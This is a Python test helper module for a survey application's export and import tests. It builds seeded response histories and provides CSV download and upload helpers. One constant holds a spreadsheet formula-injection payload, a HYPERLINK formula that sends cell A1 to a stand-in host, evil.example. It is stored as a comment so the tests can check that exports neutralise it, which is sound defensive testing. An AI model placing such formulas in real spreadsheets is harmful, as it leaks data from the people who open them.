"""A scored history to download and import again, and the helpers that read files back:
shared by ``test_exports.py``, ``test_imports.py`` and ``test_import_jobs.py`` (a test module
imports no other)."""

from __future__ import annotations

import csv
import hashlib
import io
import uuid

import numpy as np
import pytest
from sqlalchemy import insert, select, text

from survey_app.extensions import db
from survey_app.models import Comment, Response, ServiceArea, Wave
from survey_app.services import exports
from survey_app.services.waves import close_wave
from tests import factories
from tests.factories import csrf_token, sign_in
from tests.snapshots import built_once

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."


def insert_responses(
    wave: Wave, cells: list[tuple[str, str | None, str | None, int]], *, seed: int
):
    """Insert ``n`` responses for each (side, area key, role, n), with answers drawn from a
    seeded generator: some "don't know", some skipped, as real data has.

    Returns the response ids in insertion order.
    """
    rng = np.random.default_rng(seed)

    def answers(instrument, side):  # type: ignore[no-untyped-def]
        for item_no, item in enumerate(instrument.items):
            draw = rng.random()
            if draw < 0.05:
                continue  # skipped
            if item.dont_know and draw < 0.12:
                yield item_no, None
            else:
                yield item_no, int(rng.integers(1, instrument.scale.points + 1))

    return factories.insert_responses(
        wave, cells, answers, response_id=lambda: uuid.UUID(bytes=rng.bytes(16), version=4)
    )


def make_history(factory, *, labels=("2024-Q1", "2024-Q2")):
    """A relationship with closed waves of 26 responses each (results computed on closing) and
    an open wave. In the first wave, one response in a 12-person cell left a formula-like
    comment, and one in a 2-person cell left a comment that must not be downloaded."""
    rel = factory.relationship()
    for i, label in enumerate(labels):
        wave = factory.wave(rel, label, state="open")
        ids = insert_responses(
            wave,
            [
                ("client", "core-ict", "staff", 12),
                ("client", "contact-centre", "manager", 6),
                ("supplier", "core-ict", "staff", 6),
                ("supplier", "contact-centre", "executive", 2),
            ],
            # Seeds whose answers give no two areas exactly equal means: with such data the
            # scoring service stores an ICC(2) of -inf, which PostgreSQL's JSON refuses
            # (reported to the scoring service's owner).
            seed=102 + i,
        )
        if i == 0:
            db.session.execute(
                insert(Comment),
                [
                    {"response_id": ids[0], "question_key": "comment_improve", "text": HYPERLINK},
                    {
                        "response_id": ids[1],
                        "question_key": "comment_keep",
                        "text": "-2 meetings a week",
                    },
                    {
                        "response_id": ids[-1],
                        "question_key": "comment_improve",
                        "text": SMALL_CELL_COMMENT,
                    },
                ],
            )
        close_wave(wave)
        db.session.commit()
    factory.wave(rel, "2099-Q1", state="open")
    db.session.refresh(rel)  # loaded, so its id and name stay readable after a request
    return rel


def history(factory):  # type: ignore[no-untyped-def]
    """:func:`make_history`'s data, built the first time a run and copied afterwards when the
    tables are empty (:mod:`tests.snapshots`: the same rows, ids and stored results, without
    scoring its two waves again); its relationship, loaded."""
    from survey_app.models import Relationship

    relationship_id = built_once("history", lambda: make_history(factory).id)
    rel = db.session.get(Relationship, relationship_id)
    db.session.refresh(rel)  # loaded, so its id and name stay readable after a request
    return rel


#: The ``history`` fixture (:func:`history` with the test's factory). A test module takes it
#: by importing this name; its tests then ask for ``history``.
history_fixture = pytest.fixture(history, name="history")


def download_bytes(table: str, fmt: str, relationship, wave: str | None = None) -> bytes:
    rel_id = relationship if isinstance(relationship, int) else relationship.id
    prepared = exports.prepare_download(table, fmt, exports.export_scope(rel_id, wave))
    return b"".join(prepared.chunks)


def as_stored(rows: list[list]) -> list[list]:
    """Rows of a ``responses`` download (header first) with each response's side, service area
    and role level as stored: the original file a council holds, which the k-anonymous
    download generalises (``_other``) for small groups."""
    header, *body = rows
    ids = [uuid.UUID(str(row[0])) for row in body]
    stored = {
        rid: (side, key, role)
        for rid, side, key, role in db.session.execute(
            select(Response.id, Response.side, ServiceArea.key, Response.role_level)
            .outerjoin(ServiceArea, ServiceArea.id == Response.service_area_id)
            .where(Response.id.in_(ids))
        )
    }
    columns = [header.index(c) for c in ("side", "service_area", "role_level")]
    out = [header]
    for rid, row in zip(ids, body, strict=True):
        row = list(row)
        for column, value in zip(columns, stored[rid], strict=True):
            row[column] = value or ""
        out.append(row)
    return out


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def padded(row, width: int) -> list:
    """A read-only worksheet row, padded to the header's width (trailing blanks are dropped)."""
    return [*row, *([None] * (width - len(row)))]


def signed_in_client(app, role: str):  # type: ignore[no-untyped-def]
    return sign_in(app, role, email=f"{role}@exchange.example", name=f"Exchange {role}")


def database_digest() -> str:
    """A digest of every row of every table: equal before and after means nothing changed."""
    digest = hashlib.sha256()
    for table in db.metadata.sorted_tables:
        columns = ", ".join(f'"{c.name}"' for c in table.columns)
        order = ", ".join(f'"{c.name}"' for c in table.primary_key.columns) or columns
        for row in db.session.execute(
            text(f'SELECT {columns} FROM "{table.name}" ORDER BY {order}')
        ):
            digest.update(repr(tuple(row)).encode())
    return digest.hexdigest()


def csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8")


def fresh_rows(relationship) -> list[list[str]]:
    """The history's responses as a file of new waves (2023-Q1, 2023-Q2) with new keys."""
    header, *rows = as_stored(read_csv(download_bytes("responses", "csv", relationship)))
    renamed = {"2024-Q1": "2023-Q1", "2024-Q2": "2023-Q2"}
    for row in rows:
        row[0] = str(uuid.uuid4())
        row[1] = renamed[row[1]]
    return [header, *rows]


def upload(client, rel_id: int, data: bytes, name: str = "old.csv", wave: str = ""):
    page = client.get("/admin/import/")
    assert page.status_code == 200
    form = {
        "csrf_token": csrf_token(page.get_data(as_text=True)),
        "relationship": str(rel_id),
        "wave": wave,
    }
    if data is not None:
        form["file"] = (io.BytesIO(data), name)
    return client.post("/admin/import/", data=form, content_type="multipart/form-data")
